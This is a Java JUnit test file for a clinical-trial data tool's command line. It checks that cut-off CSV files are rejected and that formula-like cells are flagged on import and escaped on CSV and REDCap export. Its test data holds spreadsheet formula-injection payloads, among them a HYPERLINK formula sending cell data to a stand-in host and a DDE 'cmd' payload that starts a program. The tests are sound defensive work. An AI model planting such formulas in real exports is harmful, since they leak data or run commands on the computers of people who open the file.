package org.painlab.trial.cli.internal;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.painlab.core.Study;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import picocli.CommandLine;
import tools.jackson.databind.json.JsonMapper;

/**
 * Issue 9 at the command line: a cut-off CSV exits 1 naming the file, record, line and missing fields
 * and changes nothing; formula-like text imports with warnings and {@code trial export --format csv}
 * and {@code --format redcap} write it with a {@code '} in front while numbers stay numbers. The files
 * come from the trial tests' corpus ({@code ../org.painlab.trial.tests/corpus/bad-input}).
 */
class TrialBadInputCliTest {
    static final Path CORPUS = Path.of("..", "org.painlab.trial.tests", "corpus", "bad-input");
    static final String HYPERLINK = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")";

    @TempDir
    Path tmp;

    private record Run(int code, String out, String err) {
        @SuppressWarnings("unchecked")
        Map<String, Object> json() {
            return JsonMapper.builder().build().readValue(out, Map.class);
        }
    }

    private static Run run(Object command, String... args) {
        StringWriter out = new StringWriter();
        StringWriter err = new StringWriter();
        CommandLine cl = new CommandLine(command);
        cl.setOut(new PrintWriter(out, true));
        cl.setErr(new PrintWriter(err, true));
        int code = cl.execute(args);
        return new Run(code, out.toString(), err.toString());
    }

    private Path demo() throws Exception {
        Path dir = tmp.resolve("demo");
        CliStudies.demo(dir).close();
        return dir;
    }

    private static Path corpus(String name) {
        Path p = CORPUS.resolve(name);
        assertTrue(Files.isRegularFile(p), "corpus file " + p.toAbsolutePath());
        return p;
    }

    @Test
    void aCutOffCsvExitsOneNamingFileRecordLineAndMissingFieldsAndChangesNothing() throws Exception {
        Path demo = demo();
        Path file = corpus("csv/truncated.csv");
        Run r = run(new TrialImportCommand(), demo.toString(), file.toString());
        assertEquals(1, r.code(), r.err());
        assertEquals("", r.out());
        String first = r.err().lines().findFirst().orElse("");
        assertTrue(first.startsWith("import: truncated.csv:6: field 'age': record 5 (line 6) has 3 of the header's 10 fields: "
                + "7 missing (age, sex, vas.admission, odi.admission.pain_intensity, odi.admission.personal_care, ... 2 more)"),
                first);

        Run j = run(new TrialImportCommand(), demo.toString(), file.toString(), "--json");
        assertEquals(1, j.code(), j.err());
        @SuppressWarnings("unchecked")
        List<Map<String, Object>> problems = (List<Map<String, Object>>) j.json().get("problems");
        assertEquals(1, problems.size(), problems.toString());
        assertEquals(6, ((Number) problems.get(0).get("record")).intValue());
        assertEquals("age", problems.get(0).get("field"));
        assertEquals(false, j.json().get("imported"));
        try (Study s = CliStudies.open(demo)) {
            assertEquals(77, s.info().count("subjects"), "nothing was imported");
        }

        Run quote = run(new TrialImportCommand(), demo.toString(), corpus("csv/unclosed-quote.csv").toString());
        assertEquals(1, quote.code(), quote.err());
        assertTrue(quote.err().lines().findFirst().orElse("").startsWith("import: unclosed-quote.csv:6: field 'arm': a quote "
                + "opened on line 6 in field arm (record 4, starting on line 6) is never closed"), quote.err());
    }

    @Test
    void formulaTextImportsWithWarningsAndCsvAndRedcapExportsNeutraliseIt() throws Exception {
        Path demo = demo();
        Run imported = run(new TrialImportCommand(), demo.toString(), corpus("csv/formula-cells.csv").toString());
        assertEquals(0, imported.code(), imported.err());
        assertTrue(imported.err().contains("  warning: formula-cells.csv:0: field '': 2 new variables: note (text), delta (number)"),
                imported.err());
        assertTrue(imported.err().contains("  warning: formula-cells.csv:2: field 'stratum': looks like a spreadsheet formula"),
                imported.err());
        assertEquals(4, imported.err().lines().filter(l -> l.startsWith("  warning: ")).count(), imported.err());

        Path csv = tmp.resolve("out/trial.csv");
        Run export = run(new TrialExportCommand(), demo.toString(), csv.toString(), "--format", "csv");
        assertEquals(0, export.code(), export.err());
        Map<String, String> n1 = row(csv, "NEW-001");
        assertEquals("'" + HYPERLINK, n1.get("stratum"));
        assertEquals("-1.5", n1.get("delta"), "a negative number stays a number");
        assertEquals("'=cmd|' /C calc'!A0", row(csv, "NEW-004").get("note"));

        Path rc = tmp.resolve("out/rc.csv");
        Run redcap = run(new TrialExportCommand(), demo.toString(), rc.toString(), "--format", "redcap");
        assertEquals(0, redcap.code(), redcap.err());
        Map<String, String> r1 = row(rc, "NEW-001");
        assertEquals("'" + HYPERLINK, r1.get("stratum"));
        assertEquals("-1.5", r1.get("delta"));
        assertEquals("'@SUM(1+1)", row(rc, "NEW-002").get("note"));
        for (String line : Files.readAllLines(rc)) {
            assertFalse(line.contains(",=") || line.contains(",\"=") || line.contains(",@"), "a raw formula: " + line);
        }

        // and back: the quote is taken off on import
        Path fresh = tmp.resolve("fresh");
        CliStudies.create(fresh).close();
        Run back = run(new TrialImportCommand(), fresh.toString(), csv.toString(), "--json");
        assertEquals(0, back.code(), back.err());
        @SuppressWarnings("unchecked")
        List<Map<String, Object>> warnings = (List<Map<String, Object>>) back.json().get("warnings");
        assertTrue(warnings.stream().anyMatch(w -> "stratum".equals(w.get("field")) && ((Number) w.get("line")).intValue() > 1),
                "the formula is warned of again on import: " + warnings);
    }

    /** The row of a subject in an exported CSV, by header name. */
    private static Map<String, String> row(Path csv, String subject) throws Exception {
        try (CsvReader<CsvRecord> r = CsvReader.builder().ofCsvRecord(csv)) {
            List<String> header = null;
            for (CsvRecord rec : r) {
                if (header == null) {
                    header = rec.getFields();
                } else if (rec.getField(0).equals(subject)) {
                    Map<String, String> m = new LinkedHashMap<>();
                    for (int i = 0; i < header.size() && i < rec.getFieldCount(); i++) {
                        m.put(header.get(i), rec.getField(i));
                    }
                    return m;
                }
            }
        }
        throw new AssertionError("no row of " + subject + " in " + csv);
    }
}
